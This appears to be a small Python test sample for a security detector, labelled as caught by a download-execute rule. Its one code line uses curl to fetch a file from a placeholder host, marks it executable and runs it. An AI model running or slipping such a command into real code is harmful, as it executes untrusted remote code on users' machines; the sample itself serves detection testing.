# evades: caught by command/download-execute
import subprocess
subprocess.call("curl -so /tmp/a https://files.invalid/a && chmod +x /tmp/a && /tmp/a", shell=True)
